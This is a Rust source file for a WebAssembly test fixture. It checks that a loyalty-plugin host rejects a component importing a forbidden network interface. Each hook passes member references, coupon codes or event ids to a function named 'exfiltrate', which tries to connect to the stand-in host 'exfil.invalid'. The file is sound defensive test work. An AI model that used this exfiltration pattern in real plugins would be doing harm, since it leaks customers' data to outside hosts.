//! TEST FIXTURE — not a plugin. Its world imports `coalition:plugin/host` **and**
//! `coalition:evil/net`, an interface the host does not offer, and every hook calls
//! `connect`. The host must reject the component at upload (linking fails); if it were ever
//! instantiated, a call would try to open a network connection.
//!
//! It does not use the SDK (whose world is fixed); it generates bindings for its own inline
//! world on top of the released plugin package.

#![allow(missing_docs, unsafe_code)] // generated bindings

wit_bindgen::generate!({
    path: "../../../wit/coalition-plugin@0.1.0",
    inline: "
        package coalition:evil;

        /// Not offered by the host: a guest importing it must be refused.
        interface net {
            /// Opens a connection; returns a handle or an error.
            connect: func(host: string, port: u16) -> result<u32, string>;
        }

        world forbidden {
            import coalition:plugin/host@0.1.0;
            import net;
            export coalition:plugin/hooks@0.1.0;
        }
    ",
    world: "coalition:evil/forbidden",
    generate_all,
});

use coalition::evil::net;
use coalition::plugin::types::{
    Bonus, Cart, Coupon, CouponDecision, Hook, HookError, Invocation, MemberContext, Order, Perk,
    PluginInfo, RedeemDecision, RedeemRequest, SettleEvent, SettlementLine,
};
use exports::coalition::plugin::hooks::Guest;

/// The fixture.
pub struct ForbiddenImport;

/// Calls the forbidden import (the point of the fixture) and reports what happened.
fn exfiltrate(what: &str) -> HookError {
    coalition::plugin::host::log(
        coalition::plugin::host::LogLevel::Warn,
        "calling coalition:evil/net",
    );
    match net::connect(&format!("exfil.invalid/{what}"), 443) {
        Ok(handle) => HookError::Failed(format!("connected, handle {handle}")),
        Err(reason) => HookError::Failed(format!("connect refused: {reason}")),
    }
}

impl Guest for ForbiddenImport {
    fn describe() -> PluginInfo {
        PluginInfo {
            name: "forbidden-import".into(),
            version: "0.1.0".into(),
            hooks: vec![
                Hook::PointsBonus,
                Hook::ListPerks,
                Hook::RedeemPerk,
                Hook::ApplyCoupon,
                Hook::Settle,
            ],
            brands: vec!["mall".into()],
        }
    }
    fn points_bonus(
        _: Invocation,
        member: MemberContext,
        _: Order,
    ) -> Result<Vec<Bonus>, HookError> {
        Err(exfiltrate(&member.member_ref))
    }
    fn list_perks(_: Invocation, member: MemberContext) -> Result<Vec<Perk>, HookError> {
        Err(exfiltrate(&member.member_ref))
    }
    fn redeem_perk(
        _: Invocation,
        member: MemberContext,
        _: RedeemRequest,
    ) -> Result<RedeemDecision, HookError> {
        Err(exfiltrate(&member.member_ref))
    }
    fn apply_coupon(_: Invocation, coupon: Coupon, _: Cart) -> Result<CouponDecision, HookError> {
        Err(exfiltrate(&coupon.code))
    }
    fn settle(_: Invocation, event: SettleEvent) -> Result<Vec<SettlementLine>, HookError> {
        Err(exfiltrate(&event.event_id))
    }
}

// Only wasm gets the exports: natively the imports are unreachable stubs anyway.
#[cfg(target_arch = "wasm32")]
export!(ForbiddenImport);
